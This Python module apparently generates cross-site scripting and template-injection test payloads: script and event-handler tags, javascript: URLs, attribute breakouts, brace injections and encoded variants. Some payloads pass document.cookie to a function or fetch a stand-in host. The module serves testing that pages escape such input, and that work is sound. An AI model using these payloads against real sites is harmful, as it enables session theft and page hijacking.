"""Texts that would be more than texts, if a page were careless: tags, attributes, SVG, URLs, braces, broken codes."""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import islice
from urllib.parse import quote

DOES = ["hit()", "alert(1)", "top.hit`1`", "fetch('//elsewhere.test')", "(hit)(document.cookie)"]
TAGS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT >",
    "<script/x>{}</script>",
    "</script><script>{}</script>",
    "<script src=//elsewhere.test/x.js></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<img src=//elsewhere.test/x.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<svg><foreignObject><body onload={}></svg>",
    "<math><mtext></p><img src=x onerror={}></math>",
    "<math href=javascript:{}>x</math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=//elsewhere.test/x.swf>",
    "<link rel=stylesheet href=//elsewhere.test>",
    "<link rel=prefetch href=//elsewhere.test/{}>",
    "<base href=//elsewhere.test/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.test'>",
    "<style>@import'//elsewhere.test'</style>",
    "<style>*{{background:url(//elsewhere.test)}}</style>",
    "<form action=//elsewhere.test><button>{}",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\u00adscript:{}'>x</a>",
    "<a href=JaVaScRiPt:{}>x",
    "<p style=animation-name:x onanimationstart={}>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><img src=x onerror={}>",
    "<title></title><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml version='1.0'?><x onload={}/>",
    "<x-y onclick={} tabindex=0>",
    "<marquee onstart={}>",
    "<portal src=//elsewhere.test>",
    "<dialog open onclose={}>",
    "<slot name=x onslotchange={}>",
    "<button popovertarget=x onclick={}>",
]
ATTRIBUTES = [
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "`><img src=x onerror={}>",
    "x onfocus={} autofocus",
    '" style="background:url(//elsewhere.test)',
    '\\" onload={} \\"',
    '" autofocus onfocus="{}',
    "/* */ {} //",
]
BRACES = [
    "{{{{{}}}}}",
    "${{{}}}",
    "#{{{}}}",
    "{{@html {}}}",
    "{{#if {}}}x{{/if}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<%= {} %>",
    "[[{}]]",
    "{{ $name }} {}",
    '{{ FUNCTION("{}") }}',
    "{{ -term }} {}",
    "{{ NUMBER($x) }}",
    "{{ $x -> *[a] {} }}",
    "message = {}",
    "\u2068{}\u2069",
    "\u202e{}\u202c",
    "\u200f{}",
    "%(x)s %s {}",
    "__proto__",
    "constructor",
    "toString",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "blob:{}",
    "//elsewhere.test/{}",
    "');{};//",
    '");{};//',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={}\\x3e",
    "＜script＞{}＜/script＞",
    "\ufffd<img src=x onerror={}>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "event: state data: {}",
    "\u2028{}",
    "</div></li></ul><h1>{}",
    "]]>{}",
]
CODES: list[Callable[[str], str]] = [
    str,
    html.escape,
    lambda text: "".join(f"&#{ord(sign)};" for sign in text[:40]),
    quote,
    lambda text: quote(quote(text)),
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace("<", "%3C").replace(">", "\u02c3"),
    lambda text: text.replace(" ", "/").upper(),
    lambda text: f"{text}{text[::-1]}",
]


def _every() -> Iterator[str]:
    for code in CODES:
        for number, form in enumerate(TAGS + ATTRIBUTES + BRACES):
            yield code(form.format(DOES[number % len(DOES)]))


def payloads(number: int) -> list[str]:
    """So many different ones: some of every kind first, as they are, then in other codes."""
    whole = list(dict.fromkeys(text[:400] for text in _every()))
    assert len(whole) >= number, f"{len(whole)} payloads, {number} wanted"
    step = max(1, len(TAGS + ATTRIBUTES + BRACES) // number)
    return list(islice(whole[::step] if step > 1 else whole, number))
